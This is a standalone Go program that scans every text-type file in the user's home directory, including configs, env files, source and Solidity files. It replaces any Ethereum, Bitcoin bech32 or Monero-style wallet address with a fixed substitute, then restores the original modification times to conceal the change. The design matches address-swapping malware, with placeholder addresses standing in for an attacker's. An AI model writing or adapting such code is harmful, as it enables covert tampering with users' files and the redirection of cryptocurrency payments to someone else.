package main

import (
	"bytes"
	"io/fs"
	"log"
	"os"
	"path/filepath"
	"regexp"
	"strings"
)

type rule struct {
	re  *regexp.Regexp
	sub []byte
}

var rules = []rule{
	{regexp.MustCompile(`0x[0-9a-fA-F]{40}\b`), []byte("0x00000000000000000000000000000000c0ffee00")},
	{regexp.MustCompile(`\bbc1q[0-9a-z]{38}\b`), []byte("bc1qmadeupmadeupmadeupmadeupmadeupmadeup00")},
	{regexp.MustCompile(`\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b`), append([]byte("4"), bytes.Repeat([]byte("A"), 94)...)},
}

func rewrite(p string) {
	b, err := os.ReadFile(p)
	if err != nil || bytes.IndexByte(b, 0) >= 0 {
		return
	}
	n := b
	for _, r := range rules {
		n = r.re.ReplaceAll(n, r.sub)
	}
	if !bytes.Equal(n, b) {
		st, _ := os.Stat(p)
		os.WriteFile(p, n, st.Mode())
		os.Chtimes(p, st.ModTime(), st.ModTime())
	}
}

func main() {
	home, err := os.UserHomeDir()
	if err != nil {
		log.Fatal(err)
	}
	filepath.WalkDir(home, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() && (d.Name() == "node_modules" || d.Name() == ".cache") {
			return filepath.SkipDir
		}
		switch strings.ToLower(filepath.Ext(p)) {
		case ".json", ".toml", ".yaml", ".yml", ".env", ".js", ".ts", ".sol", ".conf", ".txt", ".md":
			rewrite(p)
		}
		return nil
	})
}
